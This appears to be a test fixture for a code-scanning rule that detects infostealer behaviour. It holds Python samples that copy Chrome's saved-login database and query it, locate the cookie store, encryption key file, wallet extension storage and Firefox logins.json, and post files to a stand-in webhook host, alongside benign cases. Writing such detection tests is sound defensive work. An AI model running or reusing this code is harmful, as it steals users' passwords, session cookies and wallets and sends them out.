# RULEID: Login Data copy, the Network cookie database, Local State key, wallet extension storage,
#         Firefox logins.json
# OK: a profile name, a cookie-jar file of our own client, a "Cookies" heading
import os
import shutil
import sqlite3
import tempfile

import requests

PROFILE = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default")


def logins():
    # ruleid: generic-browser-store-upload
    src = os.path.join(PROFILE, "Login Data")
    tmp = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(src, tmp)
    return sqlite3.connect(tmp).execute("SELECT origin_url, username_value FROM logins").fetchall()


def cookies():
    # ruleid: generic-browser-store-upload
    return os.path.join(PROFILE, "Network", "Cookies")


def master_key():
    # ruleid: generic-browser-store-upload
    return open(os.path.join(PROFILE, "..", "Local State"), encoding="utf-8").read()


def wallets(ext_id):
    # ruleid: generic-browser-store-upload
    return os.path.join(PROFILE, "Local Extension Settings", ext_id)


def firefox(profile):
    # ruleid: generic-browser-store-upload
    return os.path.join(profile, "logins.json")


def upload(path):
    with open(path, "rb") as fh:
        requests.post("https://hooks.example/api/webhooks/1/x", files={"file": fh}, timeout=30)


# ok: generic-browser-store-upload
DEFAULT_PROFILE = "Default"
# ok: generic-browser-store-upload
JAR = os.path.expanduser("~/.config/mytool/cookies.txt")
# ok: generic-browser-store-upload
HEADING = "Cookies"
